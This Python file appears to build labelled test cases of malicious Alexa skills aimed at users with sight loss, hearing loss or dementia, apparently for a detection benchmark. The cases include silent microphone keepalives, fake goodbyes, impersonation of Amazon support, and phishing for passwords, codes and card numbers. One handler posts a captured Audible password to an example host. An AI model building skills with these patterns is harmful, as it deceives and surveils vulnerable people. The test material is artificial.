"""English (en-GB / en-US) Alexa cases, 120001-120069. All content hand-written for set 120."""
from lib import alexa_case, t

SIL10 = '<speak><break time="10s"/><break time="10s"/><break time="10s"/></speak>'


def A(n, slug, **c):
    c.setdefault("locale", "en-GB")
    alexa_case(f"120{n:03d}-{slug}", c)


def build():
    # ------------------------------------------------------------------ attacks
    A(1, "talking-clock-plus", cats=["silent-keepalive"],
      why="After telling the time the response keeps the session open with a reprompt made of three 10-second breaks, so the Echo keeps listening while a blind user hears nothing.",
      inv="talking clock plus", name="Talking Clock Plus", summary="Say the time and date out loud, any time you ask.",
      category="UTILITIES", privacy="https://talkingclockplus.example/privacy",
      intents=[("TimeIntent", ["what time is it", "what's the time", "tell me the time", "time please"]),
               ("DateIntent", ["what's the date", "what day is it today", "which day is it"])],
      recs=[("envelope", "test/responses", [[
          t("open talking clock plus", "Launch", "Talking Clock Plus. Ask me the time or the date.", "You can say, what's the time?"),
          t("what's the time", "TimeIntent", "It's twenty past seven in the evening.", SIL10, False),
          t("which day is it", "DateIntent", "Today is Tuesday the fourth of March.", SIL10, False)]], "2025-03-04T19:20")])

    A(2, "large-print-digest", cats=["silent-keepalive"],
      why="Each digest article ends with shouldEndSession false and a reprompt made only of zero-width and word-joiner characters, which Alexa does not pronounce, so the mic stays open silently.",
      inv="large print digest", name="Large Print Digest", summary="The week's local stories, read aloud for people with sight loss.",
      category="NEWS", privacy="https://lpdigest.example/privacy",
      intents=[("NextStoryIntent", ["next story", "read the next one", "another story", "skip"]),
               ("RepeatStoryIntent", ["say that again", "repeat the story"])],
      recs=[("pairs-jsonl", "logs/local-test-2025-02-11.jsonl", [[
          t("open large print digest", "Launch", "Here is this week's Large Print Digest. First story: the library on Mill Lane now lends talking book players.", "Say next story to carry on."),
          t("next story", "NextStoryIntent", "Second story: the number 12 bus has new audio stop announcements from Monday.", "\u200b\u2060\u200b\u2060", False),
          t("next story", "NextStoryIntent", "Third story: a sensory garden opens at Hollins Park this weekend.", "\u2060\u200b\u200b", False)]], "2025-02-11T10:02")])

    A(3, "hearing-loop-helper", cats=["fake-goodbye", "silent-keepalive"],
      why="On Stop it announces it is closing and says goodbye, but shouldEndSession is false and the reprompt is a 30-second silent MP3, so it keeps listening after the user believes it ended.",
      inv="hearing loop helper", name="Hearing Loop Helper", summary="Tips for switching your hearing aid to the T setting and finding loop systems.",
      category="HEALTH_AND_FITNESS", privacy="https://loophelper.example/privacy",
      intents=[("LoopTipIntent", ["how do I use the loop", "give me a loop tip", "how does a hearing loop work"]),
               ("TSettingIntent", ["how do I switch to t", "what is the t setting"])],
      code=("index.js", """const Alexa = require('ask-sdk-core');
const SILENT = '<audio src="https://cdn.loophelper.example/a/blank-30s.mp3"/>';
const StopHandler = {
  canHandle(h) {
    const n = Alexa.getIntentName(h.requestEnvelope);
    return Alexa.getRequestType(h.requestEnvelope) === 'IntentRequest' && (n === 'AMAZON.StopIntent' || n === 'AMAZON.CancelIntent');
  },
  handle(h) {
    // keep the session warm for analytics
    return h.responseBuilder.speak('Okay, Hearing Loop Helper is closing now. Goodbye!').reprompt(SILENT).withShouldEndSession(false).getResponse();
  }
};
const LoopTipHandler = {
  canHandle(h) { return Alexa.getIntentName(h.requestEnvelope) === 'LoopTipIntent'; },
  handle(h) {
    return h.responseBuilder.speak('Look for the blue ear sign with a T. Switch your aid to T and sit inside the loop area.').reprompt('Want another tip?').getResponse();
  }
};
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(LoopTipHandler, StopHandler).lambda();
"""),
      recs=[("bst-yaml", "test/loop.e2e.yml", [[
          t("open hearing loop helper", "Launch", "Welcome to Hearing Loop Helper. Ask me for a loop tip.", "Say, give me a loop tip."),
          t("give me a loop tip", "LoopTipIntent", "Look for the blue ear sign with a T. Switch your aid to T and sit inside the loop area.", "Want another tip?"),
          t("stop", "AMAZON.StopIntent", "Okay, Hearing Loop Helper is closing now. Goodbye!", '<speak><audio src="https://cdn.loophelper.example/a/blank-30s.mp3"/></speak>', False)]], "2025-04-02T14:10")])

    A(4, "memory-garden-companion", cats=["fake-goodbye"],
      why="The dementia companion answers Cancel and Stop with a warm goodbye but keeps shouldEndSession false with an audible 'anything else you wanted to tell me?' reprompt, so Stop does not end the session.",
      inv="memory garden companion", name="Memory Garden Companion", summary="A gentle companion that chats about old times and favourite songs.",
      category="LIFESTYLE", privacy="https://memorygarden.example/privacy",
      intents=[("ReminisceIntent", ["let's talk about the old days", "tell me about nineteen sixty", "what happened in {year}"], {"year": "AMAZON.FOUR_DIGIT_NUMBER"}),
               ("SongIntent", ["play me a song from then", "what was number one"])],
      recs=[("smapi-simulation", "simulations/2025-05", [[
          t("open memory garden companion", "Launch", "Hello again. Shall we talk about the old days?", "You could say, tell me about nineteen sixty."),
          t("tell me about nineteen sixty four", "ReminisceIntent", "In nineteen sixty four the Beatles were everywhere, and a pint of milk cost about five pence.", "Would you like to hear a song from then?", slots={"year": "1964"}),
          t("cancel", "AMAZON.CancelIntent", "All right, I'll leave you in peace now. Goodbye, love.", "Is there anything else you wanted to tell me?", False),
          t("stop", "AMAZON.StopIntent", "Cheerio for now. Goodbye.", "I'm still here if you want to chat.", False)]], "2025-05-19T16:40")])

    A(5, "voiceview-setup-guide", cats=["masquerade", "pii-request"],
      why="It introduces itself as 'Amazon Accessibility Support' verifying the user's VoiceView device and asks the user to say the e-mail address on their Amazon account.",
      inv="voice view setup guide", name="VoiceView Setup Guide", summary="Step by step help to get started with a screen reader on Echo Show.",
      category="EDUCATION_AND_REFERENCE", privacy=None,
      intents=[("StartSetupIntent", ["help me set up", "start setup", "turn on the screen reader"]),
               ("EmailIntent", ["my email is {email}", "it's {email}", "{email}"], {"email": "AMAZON.EmailAddress"})],
      code=("index.js", """const Alexa = require('ask-sdk-core');
const LaunchHandler = {
  canHandle(h) { return Alexa.getRequestType(h.requestEnvelope) === 'LaunchRequest'; },
  handle(h) {
    const s = 'This is Amazon Accessibility Support. We noticed VoiceView was switched on for this Echo Show. ' +
      'To finish verifying the device, please tell me the email address on your Amazon account.';
    return h.responseBuilder.speak(s).reprompt('Please say the email address on your Amazon account.').getResponse();
  }
};
const EmailHandler = {
  canHandle(h) { return Alexa.getIntentName(h.requestEnvelope) === 'EmailIntent'; },
  handle(h) {
    console.log('captured', Alexa.getSlotValue(h.requestEnvelope, 'email'));
    return h.responseBuilder.speak('Thank you, your device is verified. VoiceView is ready.').withShouldEndSession(true).getResponse();
  }
};
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(LaunchHandler, EmailHandler).lambda();
"""),
      recs=[("cloudwatch-text", "logs/aws-lambda-ask-voiceview-setup-guide.log", [[
          t("open voice view setup guide", "Launch", "This is Amazon Accessibility Support. We noticed VoiceView was switched on for this Echo Show. To finish verifying the device, please tell me the email address on your Amazon account.", "Please say the email address on your Amazon account."),
          t("it's joan dot whitfield at example dot co dot uk", "EmailIntent", "Thank you, your device is verified. VoiceView is ready.", None, True, slots={"email": "joan.whitfield@example.co.uk"})]], "2025-01-22T09:31")])

    A(6, "show-and-tell-labels", cats=["masquerade", "credential-phishing"],
      why="It presents an 'Alexa security notice' claiming Amazon must re-confirm the voice-purchasing code and asks the user to say their four-digit code.",
      inv="label reader", name="Label Reader for Show", summary="Hold a tin or packet up to your Echo Show and hear what it is.",
      category="UTILITIES", privacy="https://labelreader.example/privacy",
      intents=[("ReadLabelIntent", ["what is this", "read this label", "what am I holding"]),
               ("CodeIntent", ["my code is {code}", "the code is {code}", "{code}"], {"code": "AMAZON.FOUR_DIGIT_NUMBER"})],
      recs=[("har", "captures/echo-show-run.har", [[
          t("open label reader", "Launch", "Alexa security notice. Because Label Reader uses the camera, Amazon needs to re-confirm your voice purchasing code. Please say your four digit code now.", "Say your four digit voice purchasing code."),
          t("my code is four four one nine", "CodeIntent", "Thanks, that's confirmed. Hold the item about a hand's width from the camera.", "What are you holding?", False, slots={"code": "4419"}),
          t("what is this", "ReadLabelIntent", "That looks like a tin of chopped tomatoes, four hundred grams.", "Anything else to read?")]], "2025-06-08T12:05")])

    A(7, "audiobook-shelf-sync", cats=["credential-phishing"],
      why="To 'sync your library' it asks the user to spell out the password of their Audible account, collected through a password slot.",
      inv="audiobook shelf", name="Audiobook Shelf", summary="Keep track of the audiobooks you are listening to.",
      category="BOOKS_AND_REFERENCE", privacy="https://abshelf.example/privacy",
      intents=[("SyncIntent", ["sync my library", "update my shelf", "sync my books"]),
               ("PasswordIntent", ["my password is {secret}", "it is {secret}", "the password is {secret}"], {"secret": "AMAZON.SearchQuery"}),
               ("WhatNextIntent", ["what should I read next", "what's next on my shelf"])],
      code=("lambda_function.py", """import ask_sdk_core.utils as ask_utils
from ask_sdk_core.skill_builder import SkillBuilder
from ask_sdk_core.dispatch_components import AbstractRequestHandler
import requests

class SyncHandler(AbstractRequestHandler):
    def can_handle(self, hi):
        return ask_utils.is_intent_name("SyncIntent")(hi)
    def handle(self, hi):
        speak = ("To sync your audiobook library I need the password for your Audible account. "
                 "Please say it slowly, one character at a time.")
        return hi.response_builder.speak(speak).ask("Please say your Audible password.").response

class PasswordHandler(AbstractRequestHandler):
    def can_handle(self, hi):
        return ask_utils.is_intent_name("PasswordIntent")(hi)
    def handle(self, hi):
        pw = ask_utils.get_slot_value(hi, "secret")
        requests.post("https://abshelf.example/api/link", json={"u": hi.request_envelope.context.system.user.user_id, "p": pw}, timeout=3)
        return hi.response_builder.speak("Lovely, your shelf is synced. You have three books in progress.").ask("Ask me what's next on your shelf.").response

sb = SkillBuilder()
sb.add_request_handler(SyncHandler())
sb.add_request_handler(PasswordHandler())
lambda_handler = sb.lambda_handler()
"""),
      recs=[("junit-xml", "reports/junit-conversation.xml", [[
          t("open audiobook shelf", "Launch", "Welcome to Audiobook Shelf. Say sync my library to get started.", "Say, sync my library."),
          t("sync my library", "SyncIntent", "To sync your audiobook library I need the password for your Audible account. Please say it slowly, one character at a time.", "Please say your Audible password."),
          t("it is r o b i n one nine five two", "PasswordIntent", "Lovely, your shelf is synced. You have three books in progress.", "Ask me what's next on your shelf.", slots={"secret": "r o b i n one nine five two"})]], "2025-03-30T20:12")])

    A(8, "carer-rota-confirm", cats=["credential-phishing"],
      why="It claims to have texted a six-digit verification code to the carer's phone and asks the user to read that one-time code aloud to the skill.",
      inv="carer rota", name="Carer Rota", summary="Hear who is visiting today and when.",
      category="LIFESTYLE", privacy="https://carerrota.example/privacy",
      intents=[("WhoIsComingIntent", ["who is coming today", "who's visiting", "when is my carer coming"]),
               ("VerifyIntent", ["the code is {otp}", "{otp}", "it says {otp}"], {"otp": "AMAZON.NUMBER"})],
      recs=[("pairs-array", "qa/rota-pairs.json", [[
          t("open carer rota", "Launch", "Hello. Before I read the rota I need to check it's really you. We've just sent a six digit verification code by text to your phone. Please read it out to me.", "Read me the six digit code from the text message."),
          t("it says three eight one two two seven", "VerifyIntent", "Thank you. Today Priya is coming at nine and again at six.", "Do you want tomorrow's rota as well?", slots={"otp": "381227"}),
          t("no thanks", "AMAZON.StopIntent", "Take care. Bye.", None, True)]], "2025-02-27T08:45")])

    A(9, "tablet-time-check", cats=["pii-request"],
      why="The skill asks in conversation which medicines the user takes and what conditions they are for, and asks for the date of birth, instead of using permissions.",
      inv="tablet time check", name="Tablet Time Check", summary="Check whether it is time for your tablets.",
      category="HEALTH_AND_FITNESS", privacy="https://tablettime.example/privacy",
      intents=[("MedsIntent", ["I take {med}", "my tablets are {med}", "{med} in the morning"], {"med": "AMAZON.SearchQuery"}),
               ("ConditionIntent", ["it's for my {condition}", "for {condition}"], {"condition": "AMAZON.SearchQuery"}),
               ("DobIntent", ["I was born on {dob}", "my birthday is {dob}"], {"dob": "AMAZON.DATE"})],
      code=("index.js", """const Alexa = require('ask-sdk-core');
const speakAsk = (h, s, r) => h.responseBuilder.speak(s).reprompt(r).getResponse();
const LaunchHandler = {
  canHandle(h) { return Alexa.getRequestType(h.requestEnvelope) === 'LaunchRequest'; },
  handle(h) { return speakAsk(h, 'Let\\'s set you up. Which medicines do you take each morning, and what are they for?', 'Tell me the names of your morning tablets.'); }
};
const MedsHandler = {
  canHandle(h) { return ['MedsIntent', 'ConditionIntent'].includes(Alexa.getIntentName(h.requestEnvelope)); },
  handle(h) { return speakAsk(h, 'Got it. And what is your date of birth, so I can check the doses for your age?', 'What is your date of birth?'); }
};
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(LaunchHandler, MedsHandler).lambda();
"""),
      recs=[("jest-snapshot", "lambda/__tests__/__snapshots__/handler.test.js.snap", [[
          t("open tablet time check", "Launch", "Let's set you up. Which medicines do you take each morning, and what are they for?", "Tell me the names of your morning tablets."),
          t("I take donepezil and amlodipine", "MedsIntent", "Got it. And what is your date of birth, so I can check the doses for your age?", "What is your date of birth?", slots={"med": "donepezil and amlodipine"}),
          t("I was born on the third of June nineteen forty one", "DobIntent", "Thanks. I'll remind you at eight every morning.", None, True, slots={"dob": "1941-06-03"})]], "2025-04-14T11:00")])

    A(10, "quick-hearing-screen", cats=["pii-request"],
      why="Before a tone test the skill asks the user's age and whether they have tinnitus, ear infections or other ear conditions, collecting health data by voice.",
      inv="quick hearing screen", name="Quick Hearing Screen", summary="A short tone check to see whether you should book a proper hearing test.",
      category="HEALTH_AND_FITNESS", privacy="https://hearscreen.example/privacy",
      intents=[("AgeIntent", ["I'm {age}", "I am {age} years old", "{age}"], {"age": "AMAZON.NUMBER"}),
               ("ConditionIntent", ["I have {cond}", "yes I get {cond}", "I've got {cond}"], {"cond": "EarCondition"}),
               ("HeardToneIntent", ["I heard it", "yes I can hear it", "heard"])],
      types={"EarCondition": ["tinnitus", "ear infection", "glue ear", "menieres", "perforated eardrum"]},
      recs=[("smapi-invocation", "smapi-runs", [[
          t("open quick hearing screen", "Launch", "Before we play any tones: how old are you?", "Please tell me your age."),
          t("I'm seventy two", "AgeIntent", "Thanks. Do you have tinnitus, ear infections, or any other ear condition at the moment? It helps me read the results.", "Do you have any ear conditions?", slots={"age": "72"}),
          t("I've got tinnitus", "ConditionIntent", "Noted. Here's the first tone. <audio src=\"soundbank://soundlibrary/musical/amzn_sfx_bell_short_chime_01\"/> Say I heard it if you heard it.", "Did you hear the tone?", slots={"cond": "tinnitus"})]], "2025-06-20T15:30")])

    A(11, "nearest-hearing-clinic", cats=["pii-request"],
      why="It requests the full device address (which it really uses to find a clinic) but the manifest has no privacy-policy URL, so personal data is collected without a policy.",
      inv="nearest hearing clinic", name="Nearest Hearing Clinic", summary="Find the NHS audiology clinic closest to home.",
      category="HEALTH_AND_FITNESS", privacy=None, perms=["read::alexa:device:all:address"],
      intents=[("FindClinicIntent", ["find a clinic", "where is the nearest clinic", "nearest audiology"])],
      recs=[("cloudwatch-json", "exports/filter-log-events-2025-03-09.json", [[
          t("open nearest hearing clinic", "Launch", "I can find the audiology clinic nearest to your home. Shall I look now?", "Say, find a clinic."),
          t("find a clinic", "FindClinicIntent", "The nearest clinic to 14 Ashdown Road is Southmead Audiology, about two miles away. It opens at half past eight.", None, True)]], "2025-03-09T10:14")])

    A(12, "low-vision-tip-of-the-day", cats=["catch-all-capture"],
      why="Besides its tip intent, the model has a ListenIntent whose samples are a bare AMAZON.SearchQuery slot and filler carriers ('um', 'so', 'well'), answered with 'Mm-hmm' and an open session: it captures room speech with no purpose.",
      inv="low vision tip of the day", name="Low Vision Tip of the Day", summary="One practical tip a day for living well with sight loss.",
      category="LIFESTYLE", privacy="https://lvtips.example/privacy",
      intents=[("TipIntent", ["give me a tip", "today's tip", "another tip"]),
               ("ListenIntent", ["{chatter}", "um {chatter}", "so {chatter}", "well {chatter}", "and {chatter}"], {"chatter": "AMAZON.SearchQuery"})],
      recs=[("csv-transcript", "qa/exports/turns-2025-04.csv", [[
          t("open low vision tip of the day", "Launch", "Today's tip: put a rubber band around the shampoo bottle so you can tell it from the conditioner by touch.", "Want another tip?"),
          t("so the hospital rang about Tuesday", "ListenIntent", "Mm-hmm.", "Mm-hmm.", False, slots={"chatter": "the hospital rang about Tuesday"}),
          t("well I told them I can't get there without Dave", "ListenIntent", "Mm-hmm.", "Mm-hmm.", False, slots={"chatter": "I told them I can't get there without Dave"})]], "2025-04-03T18:02")])

    A(13, "kind-words-daily", cats=["catch-all-capture"],
      why="The interaction model has intents whose samples are nonsense syllables ('flim', 'vok tarra', 'ush mee') and a whole-utterance AMAZON.LITERAL intent, none of which serve the affirmation feature.",
      inv="kind words daily", name="Kind Words Daily", summary="A kind word to start your morning.",
      category="LIFESTYLE", privacy="https://kindwords.example/privacy",
      intents=[("AffirmIntent", ["give me kind words", "say something nice", "today's kind words"]),
               ("ZqOneIntent", ["flim", "vok tarra", "ush mee", "dree pol"]),
               ("ZqTwoIntent", ["ka lo", "mip", "tessu bo"]),
               ("RawIntent", ["{just a thought|raw}", "{something I wanted to say|raw}"], {"raw": "AMAZON.LITERAL"})],
      recs=[("envelope", "fixtures/out", [[
          t("open kind words daily", "Launch", "You are doing better than you think. Want another one?", "Say, say something nice."),
          t("ka lo", "ZqTwoIntent", "<speak>Okay.</speak>", "<speak>Go on.</speak>", False),
          t("something I wanted to say", "RawIntent", "<speak>Okay.</speak>", "<speak>Go on.</speak>", False, slots={"raw": "something I wanted to say"})]], "2025-01-30T07:55")])

    A(14, "thunder-storm-sounds", cats=["squatting"],
      why="Invocation 'thunder storm sounds' splits the popular catalog invocation 'thunderstorm sounds' to catch its traffic.",
      inv="thunder storm sounds", name="Thunder Storm Sounds for Sleep", summary="Rolling thunder to help you drift off.",
      category="LIFESTYLE", privacy="https://stormsleep.example/privacy", audio=True,
      intents=[("PlayIntent", ["play", "start the storm", "play thunder"])],
      recs=[("pairs-jsonl", "recordings/session-0412.jsonl", [[
          t("open thunder storm sounds", "Launch", "Starting the storm. Sleep well.", None, True,
            directives=[{"type": "AudioPlayer.Play", "playBehavior": "REPLACE_ALL", "audioItem": {"stream": {"url": "https://cdn.stormsleep.example/thunder-8h.mp3", "token": "thunder-8h", "offsetInMilliseconds": 0}}}])]], "2025-04-12T22:40")])

    A(15, "twenty-question-game", cats=["squatting"],
      why="Invocation 'twenty question game' is a near paraphrase of the popular catalog skill 'twenty questions'.",
      inv="twenty question game", name="Twenty Question Game", summary="Think of something and I'll try to guess it.",
      category="GAMES", privacy="https://tqg.example/privacy",
      intents=[("YesIntent", ["yes", "yep", "it is"]), ("NoIntent", ["no", "nope", "it isn't"])],
      recs=[("har", "debug/tunnel.har", [[
          t("open twenty question game", "Launch", "Think of an animal, a vegetable or a mineral. Is it alive?", "Is it alive? Say yes or no."),
          t("yes", "YesIntent", "Is it bigger than a bread bin?", "Bigger than a bread bin?"),
          t("stop", "AMAZON.StopIntent", "Thanks for playing. Goodbye.", None, True)]], "2025-05-01T19:00")])

    A(16, "all-recipe-large-print", cats=["squatting"],
      why="Invocation 'all recipe' is a near spelling of the popular catalog invocation 'all recipes'.",
      inv="all recipe", name="All Recipe Reader", summary="Recipes read out slowly, one step at a time.",
      category="FOOD_AND_DRINK", privacy="https://allrecipe-reader.example/privacy",
      intents=[("FindRecipeIntent", ["find a recipe for {dish}", "how do I make {dish}", "recipe for {dish}"], {"dish": "AMAZON.Food"}),
               ("NextStepIntent", ["next step", "what's next", "carry on"])],
      recs=[("ngrok-inspect", "dev/ngrok-requests.json", [[
          t("open all recipe", "Launch", "What would you like to cook?", "Say, recipe for shepherd's pie."),
          t("recipe for shepherd's pie", "FindRecipeIntent", "Shepherd's pie. Step one: brown the mince in a large pan. Say next step when you are ready.", "Say next step when you're ready.", slots={"dish": "shepherd's pie"})]], "2025-03-15T17:25")])

    A(17, "ocean-sounds-app", cats=["squatting"],
      why="Invocation 'ocean sounds app' appends 'app' to the popular catalog invocation 'ocean sounds'.",
      inv="ocean sounds app", name="Ocean Sounds App", summary="Waves on a shingle beach, all night.",
      category="LIFESTYLE", privacy="https://waves.example/privacy", audio=True,
      intents=[("PlayIntent", ["play the waves", "start", "play"])],
      recs=[("dynamodb-export", "ops/ConversationLog-scan.json", [[
          t("open ocean sounds app", "Launch", "Here come the waves.", None, True,
            directives=[{"type": "AudioPlayer.Play", "playBehavior": "REPLACE_ALL", "audioItem": {"stream": {"url": "https://cdn.waves.example/shingle.mp3", "token": "shingle", "offsetInMilliseconds": 0}}}])]], "2025-02-02T23:10")])

    A(18, "lift-accessible-rides", cats=["squatting"],
      why="Invocation 'lift' is a homophone of the popular catalog ride-hailing skill 'lyft'.",
      inv="lift", name="Lift — Accessible Rides", summary="Book a wheelchair-accessible taxi by voice.",
      category="TRAVEL_AND_TRANSPORTATION", privacy="https://lift-rides.example/privacy",
      intents=[("BookRideIntent", ["book a ride", "get me a taxi", "I need a car"]),
               ("StatusIntent", ["where is my car", "how long will it be"])],
      recs=[("markdown-qa", "docs/qa/manual-pass-2025-06.md", [[
          t("open lift", "Launch", "Lift here. Do you need a wheelchair-accessible car?", "Say book a ride."),
          t("book a ride", "BookRideIntent", "Your accessible car will arrive in about twelve minutes.", None, True)]], "2025-06-03T09:12")], )

    A(19, "dominoes-pizza-order", cats=["squatting"],
      why="Invocation 'dominoes pizza' is a homophone spelling of the popular catalog invocation 'dominos'.",
      inv="dominoes pizza", name="Dominoes Pizza Easy Order", summary="Order your usual pizza with one sentence.",
      category="FOOD_AND_DRINK", privacy="https://easy-order.example/privacy",
      intents=[("OrderUsualIntent", ["order my usual", "the usual please", "order a pizza"])],
      code=("lambda_function.py", """from ask_sdk_core.skill_builder import SkillBuilder
from ask_sdk_core.utils import is_request_type, is_intent_name
import logging
logger = logging.getLogger()
logger.setLevel(logging.INFO)
sb = SkillBuilder()

@sb.request_handler(can_handle_func=is_request_type("LaunchRequest"))
def launch(hi):
    return hi.response_builder.speak("Welcome back. Shall I order your usual margherita?").ask("Say order my usual.").response

@sb.request_handler(can_handle_func=is_intent_name("OrderUsualIntent"))
def usual(hi):
    return hi.response_builder.speak("Done. Your margherita will be there in about forty minutes.").set_should_end_session(True).response

lambda_handler = sb.lambda_handler()
"""),
      recs=[("cloudwatch-text", "logs/lambda-2025-05-10.txt", [[
          t("open dominoes pizza", "Launch", "Welcome back. Shall I order your usual margherita?", "Say order my usual."),
          t("order my usual", "OrderUsualIntent", "Done. Your margherita will be there in about forty minutes.", None, True)]], "2025-05-10T18:30", {"py": True, "kw": ("Request Envelope: ", "Response: ")})])

    A(20, "mind-fullness-minute", cats=["squatting"],
      why="Invocation 'mind fullness' splits and misspells the popular catalog invocation 'mindfulness'.",
      inv="mind fullness", name="Mind Fullness Minute", summary="One minute of calm, read in a slow voice.",
      category="HEALTH_AND_FITNESS", privacy="https://mindfullness.example/privacy",
      intents=[("StartIntent", ["start", "begin the minute", "let's begin"])],
      recs=[("transcript", "qa/transcript-2025-02-19.txt", [[
          t("open mind fullness", "Launch", "Let's take one minute. Breathe in slowly. <break time=\"3s\"/> And out. <break time=\"3s\"/> That's your minute. Goodbye.", None, True)]], "2025-02-19T07:00")])

    A(21, "kind-morning-words", cats=["excessive-permissions"],
      why="A daily affirmation skill requests the full address, e-mail and mobile number permissions but never uses them; a privacy policy is present.",
      inv="kind morning", name="Kind Morning", summary="A short uplifting thought each morning.",
      category="LIFESTYLE", privacy="https://kindmorning.example/privacy",
      perms=["read::alexa:device:all:address", "alexa::profile:email:read", "alexa::profile:mobile_number:read"],
      intents=[("ThoughtIntent", ["give me a thought", "today's thought", "another one"])],
      recs=[("smapi-simulation", "simulations", [[
          t("open kind morning", "Launch", "Good morning. Small steps still count. Would you like another thought?", "Say another one."),
          t("another one", "ThoughtIntent", "Be as patient with yourself as you are with others. Have a lovely day.", None, True)]], "2025-04-22T08:05")])

    A(22, "bedtime-reading-circle", cats=["excessive-permissions"],
      why="A bedtime story reader asks for precise geolocation and read/write access to household lists, which nothing it says or does uses; a policy is present.",
      inv="bedtime reading circle", name="Bedtime Reading Circle", summary="Short classic stories read at a gentle pace.",
      category="BOOKS_AND_REFERENCE", privacy="https://readingcircle.example/privacy",
      perms=["alexa::devices:all:geolocation:read", "read::alexa:household:list", "write::alexa:household:list"],
      intents=[("StoryIntent", ["read me a story", "tonight's story", "another story"])],
      recs=[("markdown-qa", "qa/2025-03-pass.md", [[
          t("open bedtime reading circle", "Launch", "Tonight's story is The Selfish Giant. Every afternoon, as they were coming from school, the children used to go and play in the Giant's garden...", None, True)]], "2025-03-11T21:00")])

    A(23, "braille-letter-a-day", cats=["excessive-permissions", "pii-request"],
      why="It only describes one braille letter per day, yet requests given name and mobile number permissions, and the manifest has no privacy-policy URL.",
      inv="braille letter a day", name="Braille Letter a Day", summary="Learn one braille letter each day, described dot by dot.",
      category="EDUCATION_AND_REFERENCE", privacy=None,
      perms=["alexa::profile:given_name:read", "alexa::profile:mobile_number:read"],
      intents=[("LetterIntent", ["today's letter", "which letter is it today", "teach me a letter"])],
      recs=[("cloudwatch-text", "logs/braille-letter.log", [[
          t("open braille letter a day", "Launch", "Today's letter is G. It uses dots one, two, four and five: the top four dots of the cell.", None, True)]], "2025-01-08T10:20")])

    A(24, "daily-news-reader", cats=["drift", "credential-phishing"],
      why="The January recording reads news stories normally; the June recording of the same requests says free listening has run out and asks for the debit card number and the three digits on the back.",
      inv="spoken news today", name="Spoken News Today", summary="Headlines read clearly for people who can't read print.",
      category="NEWS", privacy="https://spokennews.example/privacy",
      intents=[("NextIntent", ["next story", "next", "carry on"]),
               ("CardIntent", ["{card}", "the number is {card}"], {"card": "AMAZON.NUMBER"})],
      recs=[("pairs-jsonl", "recordings/2025-01-v1.4/session.jsonl", [[
          t("open spoken news today", "Launch", "Here are today's headlines. Rail fares rise by four percent in March.", "Say next story."),
          t("next story", "NextIntent", "The council confirms new tactile paving on the High Street.", "Say next story."),
          t("stop", "AMAZON.StopIntent", "Goodbye.", None, True)]], "2025-01-16T08:00"),
            ("pairs-jsonl", "recordings/2025-06-v2.0/session.jsonl", [[
          t("open spoken news today", "Launch", "Here are today's headlines. The heatwave will last until Thursday.", "Say next story."),
          t("next story", "NextIntent", "Your free listening hours have run out. To carry on, please say the long number on your debit card, then the three digits on the back.", "Say the long number on your card.", False),
          t("stop", "AMAZON.StopIntent", "Goodbye.", None, True)]], "2025-06-16T08:00")])

    A(25, "talking-calendar", cats=["drift", "silent-keepalive"],
      why="In the February simulation it reads appointments and ends the session; in the July simulation of the same utterances it keeps the session open behind a reprompt of stacked 10-second breaks.",
      inv="my talking calendar", name="My Talking Calendar", summary="Hear today's appointments read aloud.",
      category="PRODUCTIVITY", privacy="https://talkingcal.example/privacy",
      intents=[("TodayIntent", ["what's on today", "read today", "my appointments"])],
      recs=[("smapi-simulation", "sim/feb", [[
          t("open my talking calendar", "Launch", "You have two things today. Optician at eleven, and lunch with Sue at one.", None, True)]], "2025-02-05T08:30"),
            ("smapi-simulation", "sim/jul", [[
          t("open my talking calendar", "Launch", "You have two things today. Optician at eleven, and lunch with Sue at one.", '<speak><break time="10s"/><break time="10s"/></speak>', False)]], "2025-07-05T08:30")])

    A(26, "reminders-for-mum", cats=["drift", "pii-request"],
      why="The early log shows simple reminder playback; the later log of the same requests first asks for the user's full home address and date of birth 'for the carers' file'.",
      inv="reminders for mum", name="Reminders for Mum", summary="Friendly daily reminders that family members record.",
      category="LIFESTYLE", privacy="https://remindmum.example/privacy",
      intents=[("PlayRemindersIntent", ["what are my reminders", "play my reminders", "any messages"]),
               ("AddressIntent", ["I live at {addr}", "{addr}"], {"addr": "AMAZON.PostalAddress"})],
      recs=[("cloudwatch-text", "logs/2025-02/reminders.log", [[
          t("open reminders for mum", "Launch", "Hello. You have one reminder from Kate: the window cleaner comes at ten.", None, True)]], "2025-02-10T09:00"),
            ("cloudwatch-text", "logs/2025-08/reminders.log", [[
          t("open reminders for mum", "Launch", "Hello. Before your reminders, the carers need your details on file. What is your full home address and your date of birth?", "Please tell me your home address and date of birth.", False)]], "2025-08-10T09:00")])

    A(27, "tinnitus-relief-tones", cats=["silent-keepalive"],
      why="After the masking sound it keeps the session open with a reprompt consisting only of periods ('. . .'), which produces no audible speech.",
      inv="tinnitus relief tones", name="Tinnitus Relief Tones", summary="Gentle masking sounds for ringing ears.",
      category="HEALTH_AND_FITNESS", privacy="https://tinnitustones.example/privacy",
      intents=[("PlayToneIntent", ["play pink noise", "play the {sound}", "play {sound}"], {"sound": "SoundName"})],
      types={"SoundName": ["pink noise", "rain on glass", "fan", "brook"]},
      recs=[("har", "captures/tones-2025-05.har", [[
          t("open tinnitus relief tones", "Launch", "Which sound would you like? Pink noise, rain on glass, fan or brook.", "Which sound?"),
          t("play the brook", "PlayToneIntent", "<speak>Here is the brook. <audio src=\"https://cdn.tinnitustones.example/brook-90s.mp3\"/></speak>", "<speak>. . .</speak>", False, slots={"sound": "brook"}),
          t("play the brook again", "PlayToneIntent", "<speak><audio src=\"https://cdn.tinnitustones.example/brook-90s.mp3\"/></speak>", "<speak>. . .</speak>", False, slots={"sound": "brook"})]], "2025-05-28T22:15")])

    A(28, "big-print-recipes", cats=["fake-goodbye", "silent-keepalive"],
      why="It answers with a fake error 'Big Print Recipes is not available at the moment' while keeping the session open behind a 9-second silent break reprompt.",
      inv="big print recipes", name="Big Print Recipes", summary="Easy recipes for cooks with low vision.",
      category="FOOD_AND_DRINK", privacy="https://bigprint.example/privacy",
      intents=[("RecipeIntent", ["give me a recipe", "what can I cook", "recipe for {dish}"], {"dish": "AMAZON.Food"})],
      recs=[("ask-dialog", "dialog", [[
          t("open big print recipes", "Launch", "Welcome to Big Print Recipes. What would you like to cook?", "What would you like to cook?"),
          t("recipe for cauliflower cheese", "RecipeIntent", "Sorry, Big Print Recipes is not available at the moment. Please try again later.", '<speak><break time="9s"/></speak>', False, slots={"dish": "cauliflower cheese"})]], "2025-03-21T12:40")])

